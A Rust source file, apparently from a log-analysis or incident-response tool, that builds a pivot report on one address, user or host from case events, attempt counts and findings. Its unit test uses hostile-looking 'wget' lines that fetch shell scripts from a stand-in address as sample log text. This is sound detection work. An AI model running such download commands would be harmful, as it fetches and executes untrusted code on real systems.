//! `pivot`: everything known about one address, user or host — first and last seen, counts per
//! host, source and action, the users it tried, the paths it requested, the ports it hit, the
//! addresses it came from, the events that name it only in their text, and the findings it
//! appears in.

use polars::prelude::*;

use crate::query::Run;
use serde::Serialize;

use crate::detect::finding::FindingsDoc;
use crate::error::AnalysisError;
use crate::parse::time::format_rfc3339;
use crate::query::frame;
use crate::query::CaseData;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Kind {
    Ip,
    User,
    Host,
}

#[derive(Debug, Clone, Serialize)]
pub struct Count {
    pub value: String,
    pub count: u64,
}

#[derive(Debug, Clone, Serialize)]
pub struct Activity {
    pub host_name: String,
    pub source: String,
    pub action: String,
    pub count: u64,
    pub first_seen: String,
    pub last_seen: String,
}

/// Authentication attempts on one host, from the attempt ledger (each try once).
#[derive(Debug, Clone, Serialize)]
pub struct Attempts {
    pub host_name: String,
    pub attempts: u64,
    pub first_seen: String,
    pub last_seen: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct FindingRef {
    pub id: String,
    pub rule: String,
    pub severity: String,
    pub title: String,
}

/// An event whose message names the address or host without it being in the event's fields
/// (an address in a `wget` command, a host in an `ssh` command line).
#[derive(Debug, Clone, Serialize)]
pub struct Mention {
    pub timestamp: String,
    pub host_name: String,
    pub action: String,
    pub message: String,
    pub file: String,
    pub line: i64,
}

/// At most this many mentions are listed (`mentions_total` counts them all).
const MAX_MENTIONS: u32 = 50;

#[derive(Debug, Clone, Serialize)]
pub struct Pivot {
    pub kind: Kind,
    pub value: String,
    pub events: u64,
    pub first_seen: Option<String>,
    pub last_seen: Option<String>,
    pub activity: Vec<Activity>,
    /// Authentication attempts per host, counted as the rules count them (`attempts` table).
    pub attempts: Vec<Attempts>,
    pub users: Vec<Count>,
    pub source_ips: Vec<Count>,
    pub paths: Vec<Count>,
    pub ports: Vec<Count>,
    /// Events that name the address or host only in their text (for an exact address or a
    /// host; user names are too common a word to search for).
    pub mentions: Vec<Mention>,
    pub mentions_total: u64,
    pub findings: Vec<FindingRef>,
}

const TOP: u32 = 25;

fn top(lf: LazyFrame, by: &str) -> Result<Vec<Count>, AnalysisError> {
    Ok(frame::top_values(lf, by, TOP)?.into_iter().map(|(value, count)| Count { value, count }).collect())
}

/// The case's addresses (source or destination) inside the network `net`.
fn addresses_in(data: &CaseData, net: crate::query::cidr::Cidr) -> Result<Vec<String>, AnalysisError> {
    let mut out = Vec::new();
    for c in ["source_ip", "destination_ip"] {
        let df = data.events()?.select([col(c)]).filter(col(c).is_not_null()).unique(None, Default::default()).run()?;
        out.extend(frame::strs(&df, c)?.into_iter().flatten().filter(|a| net.contains(a)));
    }
    out.sort();
    out.dedup();
    Ok(out)
}

pub fn build(data: &CaseData, kind: Kind, value: &str) -> Result<Pivot, AnalysisError> {
    let v = || lit(value.to_string());
    // An address, or a network (CIDR): every address of the case inside it.
    let network = match kind {
        Kind::Ip => crate::query::cidr::Cidr::parse(value).ok().filter(|c| c.exact().is_none()),
        _ => None,
    };
    let members = match network {
        Some(net) => Some(addresses_in(data, net)?),
        None => None,
    };
    let is_ip = |c: &str| match &members {
        Some(m) => crate::query::one_of(col(c), m.iter().map(String::as_str)),
        None => col(c).eq(v()),
    };
    // Host names are matched without regard to case.
    let host_is = || col("host_name").str().to_lowercase().eq(lit(value.to_lowercase()));
    let filter = match kind {
        Kind::Ip => is_ip("source_ip").or(is_ip("destination_ip")),
        Kind::User => col("user_name").eq(v()).or(col("user_target_name").eq(v())),
        Kind::Host => host_is(),
    };
    let lf = data.events()?.filter(filter.clone());
    let (mentions, mentions_total) = match kind {
        Kind::Ip if members.is_none() => mentions(data, value, filter)?,
        Kind::Host => mentions(data, value, filter)?,
        _ => (Vec::new(), 0),
    };
    // The ledger keeps the address, user and host columns of its lines.
    let attempts_filter = match kind {
        Kind::Ip => is_ip("source_ip"),
        Kind::User => col("user_name").eq(v()),
        Kind::Host => host_is(),
    };
    let attempts = attempts_by_host(data, attempts_filter)?;
    let ts = || col("timestamp").cast(DataType::Int64);
    let df = lf
        .clone()
        .group_by([col("host_name").fill_null(lit("-")), col("event_module"), col("event_action")])
        .agg([len().alias("count"), ts().min().alias("first"), ts().max().alias("last")])
        .sort(["first", "host_name", "event_module", "event_action"], Default::default())
        .run()?;
    let host = frame::strs(&df, "host_name")?;
    let module = frame::strs(&df, "event_module")?;
    let action = frame::strs(&df, "event_action")?;
    let count = frame::ints(&df, "count")?;
    let first = frame::ints(&df, "first")?;
    let last = frame::ints(&df, "last")?;
    let activity: Vec<Activity> = (0..df.height())
        .map(|i| Activity {
            host_name: host[i].clone().unwrap_or_default(),
            source: module[i].clone().unwrap_or_default(),
            action: action[i].clone().unwrap_or_default(),
            count: count[i].unwrap_or(0) as u64,
            first_seen: format_rfc3339(first[i].unwrap_or(0)),
            last_seen: format_rfc3339(last[i].unwrap_or(0)),
        })
        .collect();
    let events = activity.iter().map(|a| a.count).sum();
    let first_seen = first.iter().flatten().min().map(|t| format_rfc3339(*t));
    let last_seen = last.iter().flatten().max().map(|t| format_rfc3339(*t));
    let findings = match FindingsDoc::load_if_present(&data.case.dir.join(crate::store::files::FINDINGS_JSON))? {
        Some(doc) => doc
            .findings
            .into_iter()
            .filter(|f| match kind {
                Kind::Ip => match (&members, f.source_ip.as_deref()) {
                    (Some(m), Some(ip)) => m.binary_search_by(|x| x.as_str().cmp(ip)).is_ok(),
                    _ => f.source_ip.as_deref() == Some(value),
                },
                Kind::User => f.user_name.as_deref() == Some(value),
                Kind::Host => f.host_name.as_deref().is_some_and(|h| h.eq_ignore_ascii_case(value)),
            })
            .map(|f| FindingRef { id: f.id, rule: f.rule, severity: f.severity.as_str().into(), title: f.title })
            .collect(),
        None => Vec::new(),
    };
    Ok(Pivot {
        kind,
        value: value.to_string(),
        events,
        first_seen,
        last_seen,
        users: top(lf.clone(), "user_name")?,
        source_ips: if kind == Kind::Ip { Vec::new() } else { top(lf.clone(), "source_ip")? },
        paths: top(lf.clone(), "url_path")?,
        ports: top(lf, "destination_port")?,
        mentions,
        mentions_total,
        activity,
        attempts,
        findings,
    })
}

/// A regular expression for `value` as a whole word, without regard to case: `198.51.100.23`
/// but not `198.51.100.233`, `db01` and `db01.example.org` but not `db010`.
fn as_word(value: &str) -> String {
    let mut escaped = String::with_capacity(value.len() * 2);
    for c in value.chars() {
        if "\\.+*?()|[]{}^$#&-~".contains(c) {
            escaped.push('\\');
        }
        escaped.push(c);
    }
    // `IP:port` names the address; after an IPv6 address a `:` would continue it.
    let after = if value.contains(':') { "[^0-9a-z_:-]" } else { "[^0-9a-z_-]" };
    format!("(?i)(^|[^0-9a-z_.:-]){escaped}({after}|$)")
}

/// Events whose message names `value` as a word (without regard to case) but that the pivot's
/// own filter does not select.
fn mentions(data: &CaseData, value: &str, selected: Expr) -> Result<(Vec<Mention>, u64), AnalysisError> {
    let hit = col("message")
        .str()
        .contains(lit(as_word(value)), true)
        .fill_null(lit(false))
        .and(selected.fill_null(lit(false)).not());
    let lf = data.events()?.filter(hit);
    let total = frame::ints(&lf.clone().select([len().alias("n")]).run()?, "n")?[0].unwrap_or(0) as u64;
    let df = lf
        .select([
            col("timestamp").cast(DataType::Int64).alias("ts"),
            col("host_name"),
            col("event_action"),
            col("message"),
            col("log_file_path"),
            col("log_line"),
        ])
        .sort(["ts", "log_file_path", "log_line"], Default::default())
        .limit(MAX_MENTIONS)
        .run()?;
    let ts = frame::ints(&df, "ts")?;
    let host = frame::strs(&df, "host_name")?;
    let action = frame::strs(&df, "event_action")?;
    let msg = frame::strs(&df, "message")?;
    let file = frame::strs(&df, "log_file_path")?;
    let line = frame::ints(&df, "log_line")?;
    let out = (0..df.height())
        .map(|i| Mention {
            timestamp: format_rfc3339(ts[i].unwrap_or(0)),
            host_name: host[i].clone().unwrap_or_default(),
            action: action[i].clone().unwrap_or_default(),
            message: msg[i].as_deref().unwrap_or("").chars().take(240).collect(),
            file: file[i].clone().unwrap_or_default(),
            line: line[i].unwrap_or(0),
        })
        .collect();
    Ok((out, total))
}

fn attempts_by_host(data: &CaseData, filter: Expr) -> Result<Vec<Attempts>, AnalysisError> {
    let ts = || col("timestamp").cast(DataType::Int64);
    let df = data
        .attempts()?
        .filter(filter)
        .group_by([col("host_name").fill_null(lit("-"))])
        .agg([col("attempts").sum().alias("n"), ts().min().alias("first"), ts().max().alias("last")])
        .sort(["host_name"], Default::default())
        .run()?;
    let host = frame::strs(&df, "host_name")?;
    let n = frame::ints(&df, "n")?;
    let first = frame::ints(&df, "first")?;
    let last = frame::ints(&df, "last")?;
    Ok((0..df.height())
        .map(|i| Attempts {
            host_name: host[i].clone().unwrap_or_default(),
            attempts: n[i].unwrap_or(0) as u64,
            first_seen: format_rfc3339(first[i].unwrap_or(0)),
            last_seen: format_rfc3339(last[i].unwrap_or(0)),
        })
        .collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mentions_are_whole_words() {
        let m = |v: &str, text: &str| {
            let df = polars::df!("m" => [text]).unwrap();
            let out = df.lazy().select([col("m").str().contains(lit(as_word(v)), true)]).collect().unwrap();
            out.column("m").unwrap().bool().unwrap().get(0).unwrap()
        };
        assert!(m("198.51.100.23", "wget http://198.51.100.23/x.sh"));
        assert!(m("198.51.100.23", "from 198.51.100.23 port 22"));
        assert!(m("198.51.100.23", "wget http://198.51.100.23:8080/u.sh"));
        assert!(!m("198.51.100.23", "from 198.51.100.233 port 22"));
        assert!(!m("198.51.100.23", "from 10.198.51.100.23"));
        assert!(m("DB01", "ssh deploy@db01.example.org"));
        assert!(!m("db01", "ssh db010"));
        assert!(m("2001:db8::7", "from 2001:db8::7 port 1"));
        assert!(!m("2001:db8::7", "from 2001:db8::77 port 1"));
    }
}
